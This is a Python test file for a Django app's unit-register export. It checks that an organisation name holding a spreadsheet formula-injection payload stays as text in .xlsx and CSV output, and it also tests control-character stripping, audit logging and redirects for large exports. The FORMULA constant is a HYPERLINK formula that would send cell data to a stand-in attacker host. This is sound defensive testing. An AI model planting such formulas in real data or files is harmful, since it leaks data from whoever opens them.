"""Hostile unit names in the unit register export (direct download and as a job): text stays
text, in .xlsx and .csv; the direct download serves only a short list."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from hazardloop.audit.models import AuditEvent
from hazardloop.testing import web_client
from hazardloop.units.models import Unit

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"点此查看")'


@pytest.mark.django_db
def test_streamed_export_keeps_hostile_names_as_text_and_is_audited(cast):
    Unit.objects.filter(pk=cast.unit.pk).update(name=FORMULA, address="南关区\x0b一号")
    response = web_client(cast.regulator).get("/units/export.xlsx")
    assert response.status_code == 200
    data = response.content
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "\x0b" not in xml
    values = {
        v for row in load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True) for v in row
    }
    assert FORMULA in values and "南关区一号" in values
    event = AuditEvent.objects.get(action="unit.export", actor=cast.regulator)
    assert "stream" in event.message


@pytest.mark.django_db
def test_the_direct_download_refuses_a_long_list(cast, settings):
    """A long list is never written in the request: the page points to the Export button."""
    settings.UNIT_EXPORT_INLINE_MAX_ROWS = 1
    client = web_client(cast.regulator)
    response = client.get("/units/export.xlsx")
    assert response.status_code == 302 and response["Location"].startswith("/units/?")
    assert not AuditEvent.objects.filter(action="unit.export").exists()
    page = client.get(response["Location"]).content.decode()
    assert "后台" in page or "background" in page


@pytest.mark.django_db
def test_csv_export_job_defuses_hostile_names(cast, settings, tmp_path):
    import csv

    from hazardloop.testing import IMMEDIATE_TASKS
    from hazardloop.units.models import UnitJob

    settings.TASKS = IMMEDIATE_TASKS
    settings.MEDIA_ROOT = tmp_path
    Unit.objects.filter(pk=cast.unit.pk).update(name=FORMULA)
    client = web_client(cast.regulator)
    client.post("/units/export/", {"format": "csv"})
    job = UnitJob.objects.get(kind="export")
    assert job.status == "done" and job.file.name.endswith(".csv")
    response = client.get(f"/units/jobs/{job.pk}/download/")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[0][:2] == ["单位名称", "统一社会信用代码"]
    assert "'" + FORMULA in {r[0] for r in rows[1:]}
